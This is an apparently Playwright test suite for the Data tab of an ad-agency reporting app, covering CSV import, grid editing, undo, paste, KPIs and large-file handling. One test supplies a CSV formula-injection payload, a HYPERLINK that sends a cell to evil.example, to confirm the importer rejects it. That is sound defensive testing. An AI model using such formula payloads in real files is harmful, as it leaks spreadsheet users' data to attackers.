import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, test } from './harness/fixtures'
import { AppShell } from './pages/app-shell'
import { ClientsScreen, FirstRun } from './pages/clients'
import { DataTab } from './pages/data'

/** The real Meta export beside the clone (../shared); its licence keeps it out of the repository. */
const META_EXPORT = join(
  import.meta.dirname,
  '../../../shared/fixtures/ad-exports/meta-ads_campaigns_EUR.csv',
)
const META_TOTAL = '2026-03|meta|'

/** Loads the demo agency and opens the Data tab of a client that keeps its books in euros. */
async function openEuroClient(page: Page): Promise<{ data: DataTab; clientName: string }> {
  await new FirstRun(page).loadDemo()
  await new AppShell(page).goTo('clients')
  const clients = new ClientsScreen(page)
  await expect.poll(() => clients.rows.count(), { timeout: 30_000 }).toBeGreaterThanOrEqual(12)
  // Finnish demo companies (Oy) keep their books in euros.
  const clientName = (await clients.names()).find((candidate) => / Oy$/.test(candidate))
  if (!clientName) throw new Error('The demo agency has no Finnish client')
  await clients.open(clientName)
  await expect.poll(() => page.getByTestId('client-screen').textContent()).toContain('EUR')
  const data = new DataTab(page)
  await data.open()
  await data.rows.first().waitFor()
  return { data, clientName }
}

/** The client's stored Meta rows of March 2026, straight from IndexedDB. */
async function metaRows(
  page: Page,
): Promise<{ month: string; campaignName: string | null; spendMinor: number | null }[]> {
  const clientId = /#\/clients\/([^/]+)/.exec(page.url())?.[1] ?? ''
  return page.evaluate(
    (id) =>
      new Promise((resolve, reject) => {
        const request = indexedDB.open('cadence')
        request.onerror = () => reject(new Error(String(request.error)))
        request.onsuccess = () => {
          const database = request.result
          const all = database.transaction('metricMonths', 'readonly').objectStore('metricMonths').getAll()
          all.onsuccess = () => {
            type Row = {
              clientId: string
              channel: string
              deletedAt: string | null
              month: string
              campaignName?: string | null
              spendMinor: number | null
              updatedAt: string
            }
            resolve(
              (all.result as Row[])
                .filter(
                  (row) =>
                    row.clientId === id &&
                    row.channel === 'meta' &&
                    row.deletedAt === null &&
                    row.month === '2026-03',
                )
                .map((row) => ({
                  month: row.month,
                  campaignName: row.campaignName ?? null,
                  spendMinor: row.spendMinor,
                  updatedAt: row.updatedAt,
                }))
                .sort((a, b) => (a.campaignName ?? '').localeCompare(b.campaignName ?? '')),
            )
            database.close()
          }
        }
      }),
    clientId,
  )
}

describe('the Data tab', () => {
  test('imports a real Meta export, then edits, undoes and pastes in the grid; all kept after a reload', async ({
    app,
  }) => {
    if (!existsSync(META_EXPORT)) {
      console.log(`Skipped: ${META_EXPORT} is absent (../shared/fixtures beside the clone).`)
      return
    }
    const { page } = app
    const { data } = await openEuroClient(page)
    const file = {
      name: 'meta-ads_campaigns_EUR.csv',
      mimeType: 'text/csv',
      buffer: readFileSync(META_EXPORT),
    }

    // The export covers 11 Mar – 9 Apr: nothing imports until it is booked to a month.
    let wizard = await data.importFile(file)
    await wizard.preview.waitFor()
    expect(await wizard.count('rejected')).toBe(2)
    await expect.poll(() => wizard.rejections.first().textContent()).toContain('spans several months')
    expect(await wizard.importButton.isDisabled()).toBe(true)
    await wizard.bookToStartMonth()
    await expect.poll(() => wizard.count('create')).toBe(3)
    expect(await wizard.count('rejected')).toBe(0)
    const total = wizard.months.filter({ hasText: 'Meta total' })
    await expect.poll(() => total.textContent()).toContain('Spend 33.65')
    await expect.poll(() => total.textContent()).toContain('Impressions 297,644')
    await wizard.importButton.click()
    await page.getByTestId('import-preview').waitFor({ state: 'detached' })

    // The month is in the grid, its campaigns grouped under it.
    await expect.poll(() => data.cellText(META_TOTAL, 'spend')).toBe('33.65')
    expect(await data.cellText(META_TOTAL, 'impressions')).toBe('297,644')
    // CPM = 3365 / 297644 × 1000 minor units = 0.11 EUR, computed live; no clicks, so CPC is "—".
    expect(await data.cellText(META_TOTAL, 'cpm')).toBe('0.11')
    expect(await data.cellText(META_TOTAL, 'cpc')).toBe('—')
    await data.row(META_TOTAL).getByTestId('toggle-campaigns').click()
    await expect.poll(() => data.rows.filter({ hasText: 'ISNxChowdeck ad Campaign' }).count()).toBe(1)
    const stored = await metaRows(page)
    expect(stored.map((row) => [row.campaignName, row.spendMinor])).toEqual([
      [null, 3365],
      [
        '[02/04/2026] Promoting https://store.chowdeck.com/mushin/supermarkets/isn-products-nigeria-limitedmushinpcgle7',
        323,
      ],
      ['ISNxChowdeck ad Campaign', 3042],
    ])

    // The same file again: everything is unchanged and nothing is written.
    wizard = await data.importFile(file)
    await wizard.preview.waitFor()
    await wizard.bookToStartMonth()
    await expect.poll(() => wizard.count('unchanged')).toBe(3)
    expect(await wizard.count('create')).toBe(0)
    expect(await wizard.count('update')).toBe(0)
    await expect.poll(() => page.getByTestId('import-nothing').textContent()).toContain('already imported')
    expect(await wizard.importButton.isDisabled()).toBe(true)
    await wizard.close()
    expect(await metaRows(page)).toEqual(stored)

    // Type into a cell with the keyboard, then undo it.
    await data.cell(META_TOTAL, 'clicks').click()
    await page.keyboard.type('1234')
    await page.keyboard.press('Enter')
    await expect.poll(() => data.cellText(META_TOTAL, 'clicks')).toBe('1,234')
    // CPC = 3365 / 1234 minor units ≈ 0.03 EUR; CTR = 1234 / 297644 = 0.41 %.
    await expect.poll(() => data.cellText(META_TOTAL, 'cpc')).toBe('0.03')
    expect(await data.cellText(META_TOTAL, 'ctr')).toBe('0.41 %')
    await page.keyboard.press('Control+z')
    await expect.poll(() => data.cellText(META_TOTAL, 'clicks')).toBe('')
    await expect.poll(() => data.status.textContent()).toContain('Undid 1 cell')
    await page.keyboard.press('Control+Shift+z')
    await expect.poll(() => data.cellText(META_TOTAL, 'clicks')).toBe('1,234')
    await page.keyboard.press('Control+z')
    await expect.poll(() => data.cellText(META_TOTAL, 'clicks')).toBe('')

    // A typed value that is not a number keeps its text and says why; Escape leaves it unsaved.
    await data.cell(META_TOTAL, 'leads').click()
    await page.keyboard.type('12,5')
    await page.keyboard.press('Enter')
    await expect.poll(() => data.status.textContent()).toContain('“12,5” is not a number')
    expect(await page.getByTestId('cell-editor').inputValue()).toBe('12,5')
    await page.keyboard.press('Escape')
    expect(await data.cellText(META_TOTAL, 'leads')).toBe('')

    // Paste a 2×3 block from a spreadsheet: clicks, conversions and conversion value of two rows.
    // Metrics nobody measured for this client are hidden until asked for: show them all.
    const showEmpty = page.getByTestId('toggle-empty-columns')
    if ((await showEmpty.count()) > 0) await showEmpty.click()
    // Channels sort Google Ads, Meta, LinkedIn: the block covers Google Ads and the Meta total.
    const google = '2026-03|google-ads|'
    expect(await data.cellText(google, 'clicks')).not.toBe('')
    await data.cell(google, 'clicks').click()
    await data.paste('1,200\t30\t450.50\r\n1,300\t31\t460.25\r\n')
    await expect.poll(() => data.cellText(google, 'clicks')).toBe('1,200')
    expect(await data.cellText(google, 'conversions')).toBe('30')
    expect(await data.cellText(google, 'conversionValue')).toBe('450.50')
    await expect.poll(() => data.cellText(META_TOTAL, 'clicks')).toBe('1,300')
    expect(await data.cellText(META_TOTAL, 'conversions')).toBe('31')
    expect(await data.cellText(META_TOTAL, 'conversionValue')).toBe('460.25')
    // ROAS of the Meta total = 46025 / 3365 = 13.68×, computed live.
    expect(await data.cellText(META_TOTAL, 'roas')).toBe('13.68×')
    await expect.poll(() => data.status.textContent()).toContain('Pasted 6 cells')

    // Reload: everything is kept.
    await data.saved()
    await page.reload()
    await data.root.waitFor()
    await expect.poll(() => data.cellText(META_TOTAL, 'spend'), { timeout: 20_000 }).toBe('33.65')
    expect(await data.cellText(META_TOTAL, 'clicks')).toBe('1,300')
    expect(await data.cellText(META_TOTAL, 'conversionValue')).toBe('460.25')
    expect(await data.cellText(google, 'clicks')).toBe('1,200')
    expect(await data.cellText(google, 'conversions')).toBe('30')
  })

  test('a hostile file and an empty file get clear messages and write nothing', async ({ app }) => {
    const { page } = app
    const { data } = await openEuroClient(page)
    const shell = new AppShell(page)
    const before = await shell.countRecords('metricMonths')

    const hostile = [
      'Campaign,Day,Currency code,Cost,Impr.,Clicks',
      '"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",2026-01-05,EUR,5.00,50,5',
      '@SUM(A1:A9),2026-01-06,EUR,1.00,1,1',
    ].join('\n')
    let wizard = await data.importFile({
      name: 'campaigns.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(hostile),
    })
    await wizard.preview.waitFor()
    expect(await wizard.count('rejected')).toBe(2)
    await expect.poll(() => wizard.rejections.first().textContent()).toContain('holds a spreadsheet formula')
    await expect.poll(() => page.getByTestId('import-nothing').textContent()).toContain('No row of this file')
    expect(await wizard.importButton.isDisabled()).toBe(true)
    await wizard.close()

    wizard = await data.importFile({ name: 'empty.csv', mimeType: 'text/csv', buffer: Buffer.from('') })
    await wizard.error.waitFor()
    await expect.poll(() => wizard.error.textContent()).toContain('The file is empty.')
    await wizard.close()

    wizard = await data.importFile({
      name: 'report.xlsx',
      mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      buffer: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]),
    })
    await wizard.error.waitFor()
    await expect.poll(() => wizard.error.textContent()).toContain('not a CSV export')
    await wizard.close()

    expect(await shell.countRecords('metricMonths')).toBe(before)
  })

  test('maps an unknown CSV by hand, and the next file of that layout uses the saved mapping', async ({
    app,
  }) => {
    const { page } = app
    const { data } = await openEuroClient(page)
    const csv = 'Kuukausi;Kulut;Klikkaukset\n2026-05;12,50;40\n'
    let wizard = await data.importFile({ name: 'oma.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) })
    await page.getByTestId('import-mapping').waitFor()
    // The roles were guessed from the Finnish headers; the channel has to be chosen.
    await page.getByTestId('mapping-channel').click()
    await page.getByRole('option', { name: 'TikTok' }).click()
    await expect.poll(() => page.getByTestId('mapping-preview').textContent()).toContain('Spend 12.50')
    await page.getByTestId('mapping-continue').click()
    await wizard.preview.waitFor()
    expect(await wizard.count('create')).toBe(1)
    await wizard.importButton.click()
    await page.getByTestId('import-preview').waitFor({ state: 'detached' })
    await expect.poll(() => data.cellText('2026-05|tiktok|', 'spend')).toBe('12.50')
    expect(await data.cellText('2026-05|tiktok|', 'clicks')).toBe('40')

    wizard = await data.importFile({
      name: 'oma-kesakuu.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from('Kuukausi;Kulut;Klikkaukset\n2026-06;20,00;55\n'),
    })
    await wizard.preview.waitFor()
    await expect.poll(() => wizard.preview.textContent()).toContain('saved column mapping')
    expect(await wizard.count('create')).toBe(1)
  })

  test('a custom KPI gets its own column, a target is set, and an added row takes values; all kept', async ({
    app,
  }) => {
    const { page } = app
    const { data } = await openEuroClient(page)

    await data.view('kpis')
    await page.getByTestId('kpi-add').click()
    await page.getByTestId('kpi-save').click()
    await expect.poll(() => page.getByTestId('kpi-name').last().getAttribute('aria-invalid')).toBe('true')
    await page.getByTestId('kpi-name').last().fill('Demo bookings')
    await page.getByTestId('kpi-unit').last().fill('bookings')
    await page.getByTestId('kpi-save').click()
    await expect.poll(() => page.getByTestId('kpi-save').isDisabled()).toBe(true)

    await data.view('targets')
    await page.getByTestId('target-kpi').click()
    await page.getByRole('option', { name: 'Demo bookings' }).click()
    await page.getByTestId('target-value').fill('lots')
    await page.getByTestId('target-save').click()
    await expect
      .poll(() => page.getByTestId('targets-editor').textContent())
      .toContain('“lots” is not a number')
    await page.getByTestId('target-value').fill('25')
    await page.getByTestId('target-save').click()
    const target = page.getByTestId('target-row').filter({ hasText: 'Demo bookings' })
    await expect.poll(() => target.count()).toBe(1)
    expect(await target.textContent()).toContain('25')

    // An added month-and-channel row is empty until a value is typed into it.
    await data.view('months')
    await page.getByTestId('add-row').click()
    await page.getByTestId('add-row-form').waitFor()
    await page.getByTestId('add-row-channel').click()
    await page.getByRole('option', { name: 'TikTok' }).click()
    await page.getByTestId('add-row-submit').click()
    const added = data.rows.filter({ hasText: 'TikTok' }).first()
    await added.waitFor()
    const rowId = (await added.getAttribute('data-row-id')) ?? ''
    expect(rowId).toMatch(/^\d{4}-\d{2}\|tiktok\|$/)
    await page.getByTestId('toggle-empty-columns').click()
    const kpiColumn = (
      await page.locator('[data-testid^="grid-header-custom:"]').last().getAttribute('data-testid')
    )?.replace('grid-header-', '')
    expect(kpiColumn).toBeTruthy()
    await data.cell(rowId, kpiColumn ?? '').click()
    await page.keyboard.type('7')
    await page.keyboard.press('Tab')
    await expect.poll(() => data.cellText(rowId, kpiColumn ?? '')).toBe('7')

    await data.saved()
    await page.reload()
    await data.root.waitFor()
    await expect.poll(() => data.cellText(rowId, kpiColumn ?? ''), { timeout: 20_000 }).toBe('7')
    await data.view('targets')
    await expect
      .poll(() => page.getByTestId('target-row').filter({ hasText: 'Demo bookings' }).count())
      .toBe(1)

    // A link to a month (the Results tab's checks use them) selects that month's first row.
    const clientPath = /#(\/clients\/[^/?]+)/.exec(page.url())?.[1] ?? ''
    await page.evaluate((path) => {
      window.location.hash = `${path}/overview`
    }, clientPath)
    await page.getByTestId('client-overview').waitFor()
    await page.evaluate((path) => {
      window.location.hash = `${path}/data?month=2025-06`
    }, clientPath)
    const active = page.locator('[data-testid="grid-row"]:has([data-active])')
    await expect.poll(() => active.getAttribute('data-row-id')).toMatch(/^2025-06\|/)
  })

  test('reads a 50,000-row export in chunks with progress, and a very large one can be cancelled', async ({
    app,
  }) => {
    const { page } = app
    const { data } = await openEuroClient(page)
    const shell = new AppShell(page)
    const before = await shell.countRecords('metricMonths')

    // A huge file: the progress bar moves between chunks and Cancel stops the read.
    let wizard = await data.importFile(googleAdsExport(300_000))
    const progress = page.getByTestId('import-progress').getByRole('progressbar')
    await expect
      .poll(async () => Number(await progress.getAttribute('aria-valuenow')), { timeout: 30_000 })
      .toBeGreaterThan(0)
    await page.getByTestId('import-cancel-read').click()
    await wizard.pickStep.waitFor()
    expect(await wizard.preview.count()).toBe(0)
    await wizard.close()

    // 50,000 daily rows of 100 campaigns over 500 days: summed into months, written in one go.
    wizard = await data.importFile(googleAdsExport(50_000))
    await wizard.preview.waitFor({ timeout: 60_000 })
    const months = 17 // January 2025 to May 2026
    const planned = (await wizard.count('create')) + (await wizard.count('update'))
    expect(planned).toBe(months * 101)
    expect(await wizard.count('rejected')).toBe(0)
    const created = await wizard.count('create')
    await wizard.importButton.click()
    await page.getByTestId('import-preview').waitFor({ state: 'detached', timeout: 60_000 })
    expect(await shell.countRecords('metricMonths')).toBe(before + created)
  })
})

/** A Google Ads campaign report by day: 100 campaigns, `rows` rows, from 1 January 2025. */
function googleAdsExport(rows: number): { name: string; mimeType: string; buffer: Buffer } {
  const lines = ['Campaign,Day,Currency code,Cost,Impr.,Clicks']
  const start = Date.UTC(2025, 0, 1)
  for (let index = 0; index < rows; index++) {
    const campaign = index % 100
    const day = new Date(start + Math.floor(index / 100) * 86_400_000).toISOString().slice(0, 10)
    lines.push(
      `Campaign ${campaign},${day},EUR,${(1 + (index % 7)).toFixed(2)},${100 + (index % 50)},${index % 9}`,
    )
  }
  return {
    name: `google-ads-${rows}.csv`,
    mimeType: 'text/csv',
    buffer: Buffer.from(`${lines.join('\n')}\n`),
  }
}
